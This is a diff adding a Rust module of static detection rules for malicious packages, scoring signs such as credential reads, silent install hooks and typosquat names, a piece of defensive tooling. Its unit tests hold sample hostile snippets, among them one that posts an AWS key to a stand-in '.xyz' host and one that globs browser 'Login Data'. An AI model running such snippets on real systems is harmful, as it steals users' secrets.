@@ -1,0 +1,382 @@
+//! Static detection rules over PyLite ASTs and package metadata.
+
+use minilang::ast::{Expr, Module, Stmt};
+use oss_types::PackageName;
+use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
+use std::fmt;
+
+/// A static rule identifier.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+pub enum RuleId {
+    /// Imports a network library (`requests`, `socket`).
+    NetworkImport,
+    /// Reads the environment or credentials (`os.environ`, `os.getenv`).
+    EnvRead,
+    /// References secret-looking names (`AWS_…`, `SECRET`, `TOKEN`).
+    SecretStrings,
+    /// Top-level `try:`/`except: pass` wrapping a call — the classic
+    /// silent install-time hook.
+    SilentInstallHook,
+    /// `eval` of data.
+    EvalUsage,
+    /// Spawns processes (`subprocess`).
+    SubprocessUsage,
+    /// Touches the clipboard.
+    ClipboardAccess,
+    /// Globs browser/credential storage paths.
+    CredentialPaths,
+    /// Decodes base64 blobs (staged payloads).
+    Base64Decode,
+    /// Unbounded `while True:` loop (beacons, hijack poll loops).
+    UnboundedLoop,
+    /// Hard-coded low-reputation URL (`.xyz`, `.top`, raw `http://`).
+    SuspiciousUrl,
+    /// Package name within edit distance 2 of a popular package.
+    TyposquatName,
+}
+
+impl RuleId {
+    /// All rules.
+    pub const ALL: [RuleId; 12] = [
+        RuleId::NetworkImport,
+        RuleId::EnvRead,
+        RuleId::SecretStrings,
+        RuleId::SilentInstallHook,
+        RuleId::EvalUsage,
+        RuleId::SubprocessUsage,
+        RuleId::ClipboardAccess,
+        RuleId::CredentialPaths,
+        RuleId::Base64Decode,
+        RuleId::UnboundedLoop,
+        RuleId::SuspiciousUrl,
+        RuleId::TyposquatName,
+    ];
+
+    /// Rule weight: how strongly a hit indicates malice. Individually
+    /// weak signals (network import) score low; combinations add up.
+    pub fn weight(self) -> f64 {
+        match self {
+            RuleId::NetworkImport => 1.0,
+            RuleId::EnvRead => 1.5,
+            RuleId::SecretStrings => 2.5,
+            RuleId::SilentInstallHook => 2.5,
+            RuleId::EvalUsage => 3.0,
+            RuleId::SubprocessUsage => 1.5,
+            RuleId::ClipboardAccess => 2.0,
+            RuleId::CredentialPaths => 3.0,
+            RuleId::Base64Decode => 1.5,
+            RuleId::UnboundedLoop => 1.0,
+            RuleId::SuspiciousUrl => 2.0,
+            RuleId::TyposquatName => 1.5,
+        }
+    }
+
+    /// Short label for reports.
+    pub fn label(self) -> &'static str {
+        match self {
+            RuleId::NetworkImport => "network-import",
+            RuleId::EnvRead => "env-read",
+            RuleId::SecretStrings => "secret-strings",
+            RuleId::SilentInstallHook => "silent-install-hook",
+            RuleId::EvalUsage => "eval-usage",
+            RuleId::SubprocessUsage => "subprocess-usage",
+            RuleId::ClipboardAccess => "clipboard-access",
+            RuleId::CredentialPaths => "credential-paths",
+            RuleId::Base64Decode => "base64-decode",
+            RuleId::UnboundedLoop => "unbounded-loop",
+            RuleId::SuspiciousUrl => "suspicious-url",
+            RuleId::TyposquatName => "typosquat-name",
+        }
+    }
+}
+
+impl fmt::Display for RuleId {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.label())
+    }
+}
+
+/// Evaluates every rule against a module (and optionally the package
+/// name, for the typosquat rule). Returns the matched rules.
+pub fn matched_rules(module: &Module, package_name: Option<&PackageName>) -> Vec<RuleId> {
+    let facts = Facts::gather(module);
+    let mut hits = Vec::new();
+    if facts.imports.iter().any(|m| m == "requests" || m == "socket") {
+        hits.push(RuleId::NetworkImport);
+    }
+    if facts.api_touches.iter().any(|a| {
+        a == "os.environ" || a == "os.getenv" || a.starts_with("os.environ")
+    }) {
+        hits.push(RuleId::EnvRead);
+    }
+    if facts.strings.iter().any(|s| {
+        let upper = s.to_ascii_uppercase();
+        upper.contains("AWS_") || upper.contains("SECRET") || upper.contains("TOKEN")
+    }) {
+        hits.push(RuleId::SecretStrings);
+    }
+    if facts.silent_hook {
+        hits.push(RuleId::SilentInstallHook);
+    }
+    if facts.calls_eval {
+        hits.push(RuleId::EvalUsage);
+    }
+    if facts.imports.iter().any(|m| m == "subprocess") {
+        hits.push(RuleId::SubprocessUsage);
+    }
+    if facts.imports.iter().any(|m| m == "clipboard") {
+        hits.push(RuleId::ClipboardAccess);
+    }
+    if facts
+        .strings
+        .iter()
+        .any(|s| s.contains("Login Data") || s.contains(".config/") || s.contains(".ssh"))
+    {
+        hits.push(RuleId::CredentialPaths);
+    }
+    if facts.imports.iter().any(|m| m == "base64") {
+        hits.push(RuleId::Base64Decode);
+    }
+    if facts.unbounded_loop {
+        hits.push(RuleId::UnboundedLoop);
+    }
+    if facts.strings.iter().any(|s| {
+        s.starts_with("http://")
+            || s.starts_with("stratum://")
+            || s.ends_with(".xyz")
+            || s.ends_with(".top")
+    }) {
+        hits.push(RuleId::SuspiciousUrl);
+    }
+    if let Some(name) = package_name {
+        let squat = registry_popular_targets()
+            .iter()
+            .any(|t| {
+                let target = PackageName::new(t).expect("popular targets are valid");
+                name.is_typosquat_of(&target)
+            });
+        if squat {
+            hits.push(RuleId::TyposquatName);
+        }
+    }
+    hits
+}
+
+fn registry_popular_targets() -> &'static [&'static str] {
+    &registry_sim::names::POPULAR_TARGETS
+}
+
+/// Syntactic facts extracted in one AST walk.
+#[derive(Debug, Default)]
+struct Facts {
+    imports: HashSet<String>,
+    api_touches: HashSet<String>,
+    strings: Vec<String>,
+    silent_hook: bool,
+    calls_eval: bool,
+    unbounded_loop: bool,
+}
+
+impl Facts {
+    fn gather(module: &Module) -> Facts {
+        let mut facts = Facts::default();
+        for stmt in &module.body {
+            // Top-level try { call() } except { pass } — the hook shape.
+            if let Stmt::Try { body, handler } = stmt {
+                let calls = body
+                    .iter()
+                    .any(|s| matches!(s, Stmt::Expr(Expr::Call { .. })));
+                let silent = handler.iter().all(|s| matches!(s, Stmt::Pass));
+                if calls && silent {
+                    facts.silent_hook = true;
+                }
+            }
+            facts.walk_stmt(stmt);
+        }
+        facts
+    }
+
+    fn walk_stmt(&mut self, stmt: &Stmt) {
+        match stmt {
+            Stmt::Import { module, .. } => {
+                self.imports
+                    .insert(module.split('.').next().unwrap_or(module).to_owned());
+            }
+            Stmt::FromImport { module, .. } => {
+                self.imports
+                    .insert(module.split('.').next().unwrap_or(module).to_owned());
+            }
+            Stmt::Assign { target, value } => {
+                self.walk_expr(target);
+                self.walk_expr(value);
+            }
+            Stmt::Expr(e) | Stmt::Raise(e) => self.walk_expr(e),
+            Stmt::Return(Some(e)) => self.walk_expr(e),
+            Stmt::Return(None) | Stmt::Pass => {}
+            Stmt::FunctionDef { body, .. } => {
+                for s in body {
+                    self.walk_stmt(s);
+                }
+            }
+            Stmt::If { cond, body, orelse } => {
+                self.walk_expr(cond);
+                for s in body.iter().chain(orelse) {
+                    self.walk_stmt(s);
+                }
+            }
+            Stmt::For { iter, body, .. } => {
+                self.walk_expr(iter);
+                for s in body {
+                    self.walk_stmt(s);
+                }
+            }
+            Stmt::While { cond, body } => {
+                if matches!(cond, Expr::Bool(true)) {
+                    self.unbounded_loop = true;
+                }
+                self.walk_expr(cond);
+                for s in body {
+                    self.walk_stmt(s);
+                }
+            }
+            Stmt::Try { body, handler } => {
+                for s in body.iter().chain(handler) {
+                    self.walk_stmt(s);
+                }
+            }
+        }
+    }
+
+    fn walk_expr(&mut self, expr: &Expr) {
+        match expr {
+            Expr::Str(s) => self.strings.push(s.clone()),
+            Expr::Call { callee, args } => {
+                if let Expr::Name(n) = callee.as_ref() {
+                    if n == "eval" || n == "exec" {
+                        self.calls_eval = true;
+                    }
+                }
+                if let Some(path) = dotted_path(callee) {
+                    self.api_touches.insert(path);
+                }
+                self.walk_expr(callee);
+                for a in args {
+                    self.walk_expr(a);
+                }
+            }
+            Expr::Attribute { value, .. } => {
+                if let Some(path) = dotted_path(expr) {
+                    self.api_touches.insert(path);
+                }
+                self.walk_expr(value);
+            }
+            Expr::Index { value, index } => {
+                self.walk_expr(value);
+                self.walk_expr(index);
+            }
+            Expr::Binary { lhs, rhs, .. } => {
+                self.walk_expr(lhs);
+                self.walk_expr(rhs);
+            }
+            Expr::Unary { operand, .. } => self.walk_expr(operand),
+            Expr::List(items) => {
+                for i in items {
+                    self.walk_expr(i);
+                }
+            }
+            Expr::Dict(pairs) => {
+                for (k, v) in pairs {
+                    self.walk_expr(k);
+                    self.walk_expr(v);
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+fn dotted_path(expr: &Expr) -> Option<String> {
+    match expr {
+        Expr::Name(n) => Some(n.clone()),
+        Expr::Attribute { value, attr } => {
+            let base = dotted_path(value)?;
+            Some(format!("{base}.{attr}"))
+        }
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use minilang::parse;
+
+    fn rules_for(src: &str) -> Vec<RuleId> {
+        matched_rules(&parse(src).unwrap(), None)
+    }
+
+    #[test]
+    fn exfil_pattern_trips_the_expected_rules() {
+        let hits = rules_for(
+            "import os\nimport requests\nk = os.getenv('AWS_ACCESS_KEY_ID')\n\
+             requests.post('http://x.xyz/u', k)\n",
+        );
+        assert!(hits.contains(&RuleId::NetworkImport));
+        assert!(hits.contains(&RuleId::EnvRead));
+        assert!(hits.contains(&RuleId::SecretStrings));
+        assert!(hits.contains(&RuleId::SuspiciousUrl));
+    }
+
+    #[test]
+    fn silent_hook_detection() {
+        let hits = rules_for("def f():\n    pass\ntry:\n    f()\nexcept:\n    pass\n");
+        assert!(hits.contains(&RuleId::SilentInstallHook));
+        // A try block that handles errors with real code is not a hook.
+        let hits = rules_for("try:\n    f()\nexcept:\n    log('fail')\n");
+        assert!(!hits.contains(&RuleId::SilentInstallHook));
+    }
+
+    #[test]
+    fn eval_and_base64_and_loop() {
+        let hits = rules_for(
+            "import base64\nd = base64.b64decode(x)\neval(d)\nwhile True:\n    pass\n",
+        );
+        assert!(hits.contains(&RuleId::EvalUsage));
+        assert!(hits.contains(&RuleId::Base64Decode));
+        assert!(hits.contains(&RuleId::UnboundedLoop));
+    }
+
+    #[test]
+    fn clean_code_matches_nothing() {
+        let hits = rules_for(
+            "def add(items):\n    total = 0\n    for i in items:\n        total = total + i\n    return total\n",
+        );
+        assert!(hits.is_empty(), "clean code matched {hits:?}");
+    }
+
+    #[test]
+    fn typosquat_rule_needs_the_name() {
+        let module = parse("x = 1\n").unwrap();
+        let squat: PackageName = "reqests".parse().unwrap();
+        let honest: PackageName = "left-pad-utils".parse().unwrap();
+        assert!(matched_rules(&module, Some(&squat)).contains(&RuleId::TyposquatName));
+        assert!(!matched_rules(&module, Some(&honest)).contains(&RuleId::TyposquatName));
+        assert!(!matched_rules(&module, None).contains(&RuleId::TyposquatName));
+    }
+
+    #[test]
+    fn credential_paths() {
+        let hits = rules_for("import glob\np = glob.glob('~/.config/app/Login Data')\n");
+        assert!(hits.contains(&RuleId::CredentialPaths));
+    }
+
+    #[test]
+    fn weights_are_positive_and_labels_unique() {
+        let mut labels: Vec<_> = RuleId::ALL.iter().map(|r| r.label()).collect();
+        labels.sort_unstable();
+        labels.dedup();
+        assert_eq!(labels.len(), RuleId::ALL.len());
+        assert!(RuleId::ALL.iter().all(|r| r.weight() > 0.0));
+    }
+}
